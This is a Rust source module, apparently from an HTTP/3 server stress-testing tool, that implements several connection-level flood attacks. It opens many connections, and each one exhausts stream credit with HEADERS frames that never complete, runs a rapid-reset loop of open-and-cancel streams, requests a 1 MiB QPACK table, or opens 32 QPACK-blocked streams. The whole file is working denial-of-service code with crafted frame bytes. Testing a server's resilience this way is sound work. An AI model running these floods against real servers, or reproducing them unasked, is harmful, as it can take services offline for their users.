//! The `--h3-flood` kinds that need an established connection: -c connections, each
//! attacking once its handshake is done, all driven on one thread for -d (or until the
//! server ended them all). What each connection's end was is the server's answer.

use std::collections::HashSet;
use std::io;
use std::net::SocketAddr;
use std::time::{Duration, Instant};

use quinn_proto::{Dir, StreamId, VarInt};

use super::{H3FloodKind, Tally};
use crate::cli::Args;
use crate::h3::conn::{H3Conn, State};
use crate::h3::H3Plan;

/// H3_REQUEST_CANCELLED (RFC 9114 §8.1).
const REQUEST_CANCELLED: u32 = 0x10c;
/// A HEADERS frame that announces 100 bytes of field section and carries 2: the server
/// waits for the rest, which never comes.
const UNFINISHED_HEADERS: &[u8] = &[0x01, 0x40, 0x64, 0x00, 0x00];
/// A HEADERS frame whose field section needs the first dynamic-table insert (Required
/// Insert Count 1, encoded 2 for any table of 32 bytes or more, RFC 9204 §4.5.1.1) and
/// references it: it waits for an insert the encoder stream never sends.
const BLOCKED_HEADERS: &[u8] = &[0x01, 0x03, 0x02, 0x00, 0x80];
/// Blocked streams opened by `qpack-blocked` (a server allowing 16 sees one too many).
const BLOCKED_STREAMS: usize = 32;
/// The table capacity `qpack-table` asks for: 1 MiB.
const TABLE_CAPACITY: u64 = 1 << 20;
/// Streams `reset` opens per connection per round at most.
const RESETS_PER_ROUND: usize = 100;

struct Flooder {
    conn: Box<H3Conn>,
    established: bool,
    /// The one-shot attacks were sent.
    sent: bool,
    open: HashSet<StreamId>,
    /// `reset`: streams whose request went out, to reset on the next round.
    to_reset: Vec<StreamId>,
}

pub fn run(addr: SocketAddr, plan: &H3Plan, args: &Args, kind: H3FloodKind) -> io::Result<Tally> {
    let mut live = Vec::with_capacity(args.connections);
    for _ in 0..args.connections {
        let mut conn = Box::new(H3Conn::open(addr, &plan.config, &plan.server_name)?);
        conn.flush();
        live.push(Flooder {
            conn,
            established: false,
            sent: false,
            open: HashSet::new(),
            to_reset: Vec::new(),
        });
    }
    let mut tally = Tally::default();
    let mut scratch = vec![0u8; 65_535];
    let mut done = Vec::new();
    let end = Instant::now() + args.duration;
    while Instant::now() < end && !live.is_empty() {
        live.retain_mut(|f| {
            let over = turn(f, (plan, kind), &mut tally, (&mut scratch, &mut done));
            if let Err(why) = &over {
                *tally.ends.entry(why.clone()).or_default() += 1;
            }
            over.is_ok()
        });
        tally.responses += done.len() as u64;
        done.clear();
        std::thread::sleep(Duration::from_millis(1));
    }
    for f in live.iter_mut() {
        tally.bytes_received += f.conn.received;
        f.conn.close();
        *tally
            .ends
            .entry("still open at the end of the run".into())
            .or_default() += 1;
    }
    Ok(tally)
}

/// One connection's turn: what came in, the attack, what goes out. Err: it ended, why.
fn turn(
    f: &mut Flooder,
    (plan, kind): (&H3Plan, H3FloodKind),
    tally: &mut Tally,
    (scratch, done): (&mut [u8], &mut Vec<crate::h3::conn::Done>),
) -> Result<(), String> {
    let received = f.conn.received;
    let result = (|| {
        f.conn
            .recv(scratch)
            .map_err(|e| format!("socket error: {e}"))?;
        let now = Instant::now();
        if f.conn.deadline().is_some_and(|at| at <= now) {
            f.conn.on_timeout(now);
        }
        f.conn.drive(done)
    })();
    tally.bytes_received += f.conn.received - received;
    result?;
    if f.conn.state == State::Ready {
        if !f.established {
            f.established = true;
            tally.established += 1;
            // The control stream and its SETTINGS.
            f.conn.send_requests(&[]);
        }
        attack(f, (plan, kind), tally);
    }
    f.conn.flush();
    Ok(())
}

fn attack(f: &mut Flooder, (plan, kind): (&H3Plan, H3FloodKind), tally: &mut Tally) {
    match kind {
        H3FloodKind::Handshake => {}
        H3FloodKind::Streams => {
            while let Some(id) = f.conn.quic().streams().open(Dir::Bi) {
                let _ = f.conn.quic().send_stream(id).write(UNFINISHED_HEADERS);
                f.open.insert(id);
                tally.streams += 1;
            }
            tally.credit_waits += 1;
            tally.most_open = tally.most_open.max(f.open.len() as u64);
        }
        H3FloodKind::Reset | H3FloodKind::ResetOnly => {
            reset_round(f, (plan, kind == H3FloodKind::ResetOnly), tally)
        }
        H3FloodKind::QpackTable if !f.sent => {
            f.sent = true;
            if let Some(id) = f.conn.quic().streams().open(Dir::Uni) {
                // The encoder stream's type, then Set Dynamic Table Capacity (001xxxxx).
                let mut bytes = vec![0x02];
                prefix_int(&mut bytes, 0x20, 5, TABLE_CAPACITY);
                let _ = f.conn.quic().send_stream(id).write(&bytes);
            }
        }
        H3FloodKind::QpackBlocked if !f.sent => {
            f.sent = true;
            for _ in 0..BLOCKED_STREAMS {
                if let Some(id) = f.conn.quic().streams().open(Dir::Bi) {
                    let _ = f.conn.quic().send_stream(id).write(BLOCKED_HEADERS);
                    tally.streams += 1;
                }
            }
        }
        H3FloodKind::QpackTable | H3FloodKind::QpackBlocked => {}
    }
}

/// One round of `reset` (or `reset-only`): the streams whose request went out last round are
/// reset (and stopped, unless `only`), and new ones opened with a request (finished unless
/// `only`: then the request never completes).
fn reset_round(f: &mut Flooder, (plan, only): (&H3Plan, bool), tally: &mut Tally) {
    let code = VarInt::from_u32(REQUEST_CANCELLED);
    for id in f.to_reset.drain(..) {
        let quic = f.conn.quic();
        let _ = quic.send_stream(id).reset(code);
        if !only {
            let _ = quic.recv_stream(id).stop(code);
        }
        tally.resets += 1;
    }
    for _ in 0..RESETS_PER_ROUND {
        let Some(id) = f.conn.quic().streams().open(Dir::Bi) else {
            tally.credit_waits += 1;
            break;
        };
        let mut send = f.conn.quic().send_stream(id);
        if send.write(&plan.frame) == Ok(plan.frame.len()) && !only {
            let _ = send.finish();
        }
        f.to_reset.push(id);
        tally.streams += 1;
    }
}

/// An integer with an N-bit prefix (RFC 7541 §5.1, as QPACK uses it), the first byte's
/// other bits `first`.
fn prefix_int(out: &mut Vec<u8>, first: u8, bits: u32, value: u64) {
    let max = (1u64 << bits) - 1;
    if value < max {
        out.push(first | value as u8);
        return;
    }
    out.push(first | max as u8);
    let mut rest = value - max;
    while rest >= 0x80 {
        out.push((rest & 0x7f) as u8 | 0x80);
        rest >>= 7;
    }
    out.push(rest as u8);
}
